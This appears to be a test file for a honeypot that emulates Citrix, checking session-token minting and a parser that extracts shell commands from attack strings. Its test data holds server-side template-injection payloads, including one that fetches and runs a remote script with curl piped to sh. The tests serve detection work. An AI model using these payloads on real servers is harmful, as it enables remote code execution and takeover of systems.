import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { Identity } from '../../../src/config/identity.ts'
import { SessionTokens } from '../../../src/emulators/citrix/session-tokens.ts'
import { commandIn } from '../../../src/emulators/citrix/template-command.ts'

describe('a session token', () => {
  const tokens = new SessionTokens(new Identity(Buffer.alloc(32, 7)))

  it('says whom it was leaked to and when', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.ipV4(),
          fc.ipV6().filter((text) => !/ffff/i.test(text)),
        ),
        fc.integer({ min: 0, max: 4e12 }),
        (source, now) => {
          const leak = tokens.read(tokens.mint(source, now))!
          expect(leak.at).toBe(Math.floor(now / 60_000) * 60_000)
          if (/^[\d.]+$/.test(source)) expect(leak.source).toBe(source)
          else expect(new URL(`http://[${leak.source}]/`).hostname).toBe(new URL(`http://[${source}]/`).hostname)
        },
      ),
    )
  })

  it('of another install, or changed, is none', () => {
    const other = new SessionTokens(new Identity(Buffer.alloc(32, 8)))
    expect(tokens.read(other.mint('192.0.2.1'))).toBe(undefined)
    fc.assert(fc.property(fc.string(), (text) => tokens.read(text) === undefined))
  })
})

describe('the command of a template', () => {
  const templates: [string, string | undefined][] = [
    ["[% template.new({'BLOCK'='print `id`'}) %]", 'id'],
    ["[% template.new('BLOCK' = 'print `uname -a`') %]", 'uname -a'],
    ["[%t=template.new({'BLOCK'='print readpipe(chr(47) . chr(98).chr(105))'})%][%t%]", '/bi'],
    ["[% template.new({'BLOCK'='exec(\"curl http://203.0.113.1/a | sh\");'}) %]", 'curl http://203.0.113.1/a | sh'],
    ["[% template.new({'BLOCK'='system(\\'whoami\\')'}) %]", 'whoami'],
    ['[% 7*7 %]', undefined],
  ]
  it.each(templates)('%s', (template, command) => expect(commandIn(template)).toBe(command))

  it('is found in text of any shape without an error', () => {
    fc.assert(fc.property(fc.string({ maxLength: 300 }), (text) => ['string', 'undefined'].includes(typeof commandIn(text))))
  })
})
